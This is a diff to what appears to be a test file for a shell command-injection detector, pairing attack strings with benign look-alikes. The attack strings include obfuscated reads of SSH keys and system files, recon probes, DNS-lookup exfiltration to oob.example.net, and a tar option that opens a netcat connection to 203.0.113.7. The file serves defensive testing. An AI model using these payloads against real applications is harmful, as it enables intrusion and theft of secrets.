@@ -23,10 +23,10 @@ ATTACKS: dict[str, tuple[str, Context]] = {
     "pattern_delete_escaped_slash": ("cat ${v/zz\\/qq/}", BODY),
     # a constant decoded, reversed or translated by the shell
     "hex_here_string_in_backticks": ("more `xxd -r -p <<< 2f726f6f742f2e7373682f69645f727361`", QUERY),
-    "base64_process_substitution": ("sh $(base64 -d <(echo aWQ7dW5hbWUgLWE=))", BODY),
+    "base64_process_substitution": ("more `base64 -d <(echo L2V0Yy9ob3N0cw==)`", BODY),
     "tr_here_string_constant": ("tr '+-.' ',-/' <<< -", QUERY),
-    "tr_of_echo_in_substitution": ("ls $(echo - | tr '+-.' ',-/')tmp", BODY),
-    "rev_here_string": ("$(rev <<< imaohw)", HEADER),
+    "tr_of_echo_in_substitution": ("ls `echo - | tr '+-.' ',-/'`tmp", BODY),
+    "rev_here_string": ("tail `rev <<< stsoh/cte/`", HEADER),
     # a line break written as \n around a command
     "escaped_newline_around_recon": ("\\nnetstat -an\\n", QUERY),
     "escaped_newline_after_separator": ("|/usr/bin/whoami\\n", BODY),
@@ -37,6 +37,12 @@ ATTACKS: dict[str, tuple[str, Context]] = {
     # a probe behind a wrapper, output thrown away or in the background
     "nohup_sleep_background": ("nohup sleep 45 2>/dev/null &", QUERY),
     "setsid_ping_address": ("setsid ping -n 20 127.0.0.1 >nul", BODY),
+    # a bare probe that ends in a separator: the rest of the application's command line follows it
+    "probe_then_trailing_pipe": ("ping -n 12 127.0.0.1 |", QUERY),
+    "probe_in_background": ("sleep 11 &", BODY),
+    "recon_then_semicolon": ("ifconfig -a;", HEADER),
+    # a file read into the command line by bash's $(<path)
+    "file_read_substitution": ("printf %s $(</proc/version)", QUERY),
     # a loop over a command's output, looked up as host names
     "loop_output_through_dns": ("for l in `cat /etc/hostname`; do nslookup $l.oob.example.net; done", QUERY),
     # a word split by a backslash-newline in a command's arguments
@@ -48,13 +54,13 @@ ATTACKS: dict[str, tuple[str, Context]] = {
     "windows_wildcard_command_after_separator": ("| C:\\W*\\Sys*\\whoa?i.e*", QUERY),
     # bash's $'…' quoting made only of character codes
     "ansi_c_octal_command": ("$'\\151\\146\\143\\157\\156\\146\\151\\147'", QUERY),
-    "ansi_c_octal_after_separator": ("x;$'\\150\\145\\141\\144' /etc/group", BODY),
+    "ansi_c_octal_after_separator": ("x;$'\\150\\145\\141\\144' notes.txt", BODY),
     "ansi_c_octal_variable_run": ("R=$'\\165\\156\\141\\155\\145';$R", BODY),
     # a braced variable inside a word, unset, so the word joins
     "braced_unset_variable_in_word": ("&& w${z}ho${z}ami", QUERY),
     "substring_char_empty_offset": ("tac ${HOME::1}etc${HOME::1}group", QUERY),
     # argument injection: an option that makes the program run a command
-    "git_upload_pack_option": ("--upload-pack=curl -s 203.0.113.7|sh", QUERY),
+    "git_upload_pack_option": ("--upload-pack=touch /tmp/pwned", QUERY),
     "git_ssh_command_config": ("-c core.sshCommand=\"sh -c id\"", BODY),
     "tar_checkpoint_action": ("--checkpoint-action=exec=/tmp/run.sh", QUERY),
     "tar_compress_program": ("--use-compress-program=nc 203.0.113.7 9001", BODY),
@@ -97,6 +103,11 @@ BENIGN: dict[str, tuple[str, Context]] = {
     "markdown_loop_block": ("To compress logs:\n\n```bash\nfor f in $(ls *.log); do gzip \"$f\"; done\n```\n", BODY),
     "markdown_substring_block": ("Short hash:\n\n    echo ${GITHUB_SHA:0:8}\n", BODY),
     "windows_program_path": ("C:\\Program Files\\nodejs\\node.exe", Context("body", "file")),
+    "prose_ending_in_ampersand": ("sleep well &", BODY),
+    "table_row_with_pipe": ("| ping | 20 ms |", BODY),
+    "quoted_suffix_removal": ("mv \"$f\" \"${f/.bak/}\"", BODY),
+    "quoted_initial": ("echo \"${name:0:1}.\"", BODY),
+    "relative_file_substitution": ("VERSION=$(<VERSION) make release", BODY),
     "english_tool_words": ("Find the host, cat and date of more sleep", BODY),
 }
 
